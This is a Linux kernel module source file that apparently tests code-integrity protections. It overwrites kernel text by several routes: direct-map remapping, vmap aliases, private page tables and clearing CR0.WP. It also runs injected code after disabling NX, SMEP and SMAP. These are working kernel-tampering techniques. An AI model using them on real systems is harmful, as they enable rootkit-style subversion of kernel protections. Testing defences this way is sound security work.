// SPDX-License-Identifier: GPL-2.0
/*
 * Attacks the kernel's code from inside of the kernel, in the way that a parameter names. What became of it a line of the
 * kernel's log tells. All of it could be done by whoever can have verified code run with arguments of his own.
 */
#include <linux/hex.h>
#include <linux/io.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/mman.h>
#include <linux/module.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>

#include <asm/asm.h>
#include <asm/desc.h>
#include <asm/pgtable.h>
#include <asm/special_insns.h>

#define LONGEST 16

static char *how = "";
module_param(how, charp, 0);
/* Where to write: a virtual address of the kernel's image or of a module. */
static ulong target;
module_param(target, ulong, 0);
/* "OFFSET:HEX,OFFSET:HEX": stores one after the other */
static char *steps = "";
module_param(steps, charp, 0);

/* mov $0x666, %eax; ret */
static const u8 code[] = { 0xb8, 0x66, 0x06, 0x00, 0x00, 0xc3 };

/* One store, as memcpy() makes it: 0 or -EFAULT. */
static int store(void *to, const u8 *from, size_t size)
{
	int error = 0;

	/* clang-format off */
	asm volatile("1: rep movsb\n"
		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %[error])
		     : [error] "+r"(error), "+D"(to), "+S"(from), "+c"(size)
		     :
		     : "memory");
	/* clang-format on */
	return error;
}

static void flush(void)
{
	unsigned long cr4 = __read_cr4();

	/* Global mappings too. */
	asm volatile("mov %0, %%cr4\n\tmov %1, %%cr4" : : "r"(cr4 ^ X86_CR4_PGE), "r"(cr4) : "memory");
}

/* How many bytes the mapping has there; it is made writable, executable, or both. */
static bool change(unsigned long address, pteval_t set, pteval_t clear)
{
	unsigned int level;
	pte_t *entry = lookup_address(address, &level);

	if (!entry)
		return false;
	/* Page tables are data, whatever they map. */
	WRITE_ONCE(*(pteval_t *)entry, (pte_val(*entry) | set) & ~clear);
	flush();
	return true;
}

static phys_addr_t physical(unsigned long address)
{
	unsigned int level;
	pte_t *entry = lookup_address(address, &level);
	unsigned long mask = level == PG_LEVEL_2M ? PMD_MASK : PAGE_MASK;

	return (pte_val(*entry) & PTE_PFN_MASK & mask) | (address & ~mask);
}

static void *direct(void)
{
	void *place = __va(physical(target));

	return change((unsigned long)place, _PAGE_RW, 0) ? place : NULL;
}

static void *alias(void)
{
	struct page *pages[2] = {
		pfn_to_page(physical(target) >> PAGE_SHIFT),
		pfn_to_page(physical((target & PAGE_MASK) + PAGE_SIZE) >> PAGE_SHIFT),
	};
	void *place = vmap(pages, 2, VM_MAP, PAGE_KERNEL);

	return place ? place + offset_in_page(target) : NULL;
}

/* A page table of one's own, in whose lower half the target is writable. */
static int store_by_own_tables(const u8 *from, size_t size)
{
	u64 *tables = (u64 *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, 2);
	unsigned long flags, before = __read_cr3();
	int error;

	if (!tables)
		return -ENOMEM;
	memcpy(tables, __va(before & CR3_ADDR_MASK & ~sme_me_mask), PAGE_SIZE);
	tables[0] = __sme_pa(tables + 512) | _PAGE_PRESENT | _PAGE_RW;
	tables[512] = __sme_pa(tables + 1024) | _PAGE_PRESENT | _PAGE_RW;
	tables[1024] = __sme_pa(tables + 1536) | _PAGE_PRESENT | _PAGE_RW;
	tables[1536] = (physical(target) & PAGE_MASK) | sme_me_mask | _PAGE_PRESENT | _PAGE_RW;
	local_irq_save(flags);
	write_cr3(__sme_pa(tables));
	error = store((void *)offset_in_page(target), from, size);
	write_cr3(before);
	local_irq_restore(flags);
	return error;
}

static int store_without_wp(const u8 *from, size_t size)
{
	unsigned long flags, cr0 = read_cr0();
	int error;

	local_irq_save(flags);
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	error = store((void *)target, from, size);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
	return error;
}

static int attack(void *place, unsigned long offset, const u8 *from, size_t size)
{
	int error;

	target += offset;
	if (!strcmp(how, "tables"))
		error = store_by_own_tables(from, size);
	else if (!strcmp(how, "wp"))
		error = store_without_wp(from, size);
	else
		error = place ? store(place + offset, from, size) : -ENOENT;
	target -= offset;
	return error;
}

static void write_all(void)
{
	void *place = !strcmp(how, "direct") ? direct() : !strcmp(how, "alias") ? alias() : NULL;
	char *list = kstrdup(steps, GFP_KERNEL), *rest = list, *step;

	while ((step = strsep(&rest, ",")) && *step) {
		char *offset = strsep(&step, ":");
		size_t size = step ? strlen(step) / 2 : 0;
		u8 data[LONGEST];
		int error;

		if (!size || size > LONGEST || hex2bin(data, step, size))
			break;
		error = attack(place, simple_strtoul(offset, NULL, 0), data, size);
		pr_info("attacker: %s %d\n", how, error);
	}
	kfree(list);
}

static void run(const void *place)
{
	int (*function)(void) = place;

	OPTIMIZER_HIDE_VAR(function);
	pr_info("attacker: %s %#x\n", how, function());
}

static void run_data(void)
{
	void *place = vmalloc(PAGE_SIZE);

	memcpy(place, code, sizeof(code));
	change((unsigned long)place, 0, _PAGE_NX);
	run(place);
}

static void run_user(void)
{
	unsigned long place =
		vm_mmap(NULL, 0, PAGE_SIZE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, 0);
	unsigned long cr4 = __read_cr4();

	if (IS_ERR_VALUE(place) || copy_to_user((void __user *)place, code, sizeof(code)))
		return;
	asm volatile("mov %0, %%cr4" : : "r"(cr4 & ~(X86_CR4_SMEP | X86_CR4_SMAP)) : "memory");
	run((void *)place);
	asm volatile("mov %0, %%cr4" : : "r"(cr4) : "memory");
}

static int __init attacker_init(void)
{
	pr_info("attacker: begins\n");
	if (!strcmp(how, "data"))
		run_data();
	else if (!strcmp(how, "user"))
		run_user();
	else
		write_all();
	return 0;
}
module_init(attacker_init);

static void __exit attacker_exit(void)
{
}
module_exit(attacker_exit);

MODULE_DESCRIPTION("Attacks the kernel's code");
MODULE_LICENSE("GPL");
